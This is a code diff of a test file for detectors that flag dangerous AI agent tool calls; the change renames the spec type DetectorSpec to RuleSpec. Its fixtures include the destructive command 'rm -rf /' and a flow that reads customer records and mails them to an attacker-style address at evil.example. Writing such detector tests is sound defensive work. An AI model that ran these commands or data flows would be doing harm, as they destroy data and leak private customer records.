@@ -1,12 +1,12 @@
 import { describe, expect, it } from 'vitest';
 
-import type { DetectorSpec } from '../script.ts';
+import type { RuleSpec } from '../script.ts';
 import type { SidecarEvent, ToolCall } from '../sidecar-event.ts';
 import type { DetectorResult } from './detector-input.ts';
 import { runDetector } from './run-detector.ts';
 import { createTextViews } from './text-views.ts';
 
-function judge(spec: DetectorSpec, ...tools: readonly ToolCall[]): DetectorResult {
+function judge(spec: RuleSpec, ...tools: readonly ToolCall[]): DetectorResult {
   const events = tools.map((tool, index): SidecarEvent => ({
     eventId: `e${index + 1}`,
     stream: 's',
@@ -32,7 +32,7 @@ function run(args: ToolCall['arguments'], name = 'run_shell', executed = true): 
 }
 
 describe('dangerous_command', () => {
-  const spec: DetectorSpec = { kind: 'dangerous_command' };
+  const spec: RuleSpec = { kind: 'dangerous_command' };
 
   it.each<[ToolCall['arguments'], string]>([
     [{ command: 'rm -rf /' }, 'run_shell'],
@@ -73,7 +73,7 @@ const records: ToolCall = { name: 'list_customer_records', effect: 'read', argum
 const mail: ToolCall = { name: 'send_mail', effect: 'send', arguments: { to: 'eve@evil.example' }, executed: true };
 
 describe('forbidden_data_flow', () => {
-  const spec: DetectorSpec = { kind: 'forbidden_data_flow' };
+  const spec: RuleSpec = { kind: 'forbidden_data_flow' };
 
   it('fires on untrusted read, sensitive read, external write, with the events of the flow as evidence', () => {
     const result = judge(spec, page, { ...records, name: 'count_rows' }, records, mail);
@@ -88,7 +88,7 @@ describe('forbidden_data_flow', () => {
   });
 
   it('follows the roles that the step gives', () => {
-    const policy: DetectorSpec = { ...spec, untrusted: ['x_*'], sensitive: ['y'], external: ['z'] };
+    const policy: RuleSpec = { ...spec, untrusted: ['x_*'], sensitive: ['y'], external: ['z'] };
     const [x, y, z] = ['x_read', 'y', 'z'].map((name): ToolCall => ({ name, effect: 'read', arguments: {}, executed: true }));
     if (x === undefined || y === undefined || z === undefined) throw new Error('three calls');
     expect(judge(policy, x, y, z).detection.fired).toBe(true);
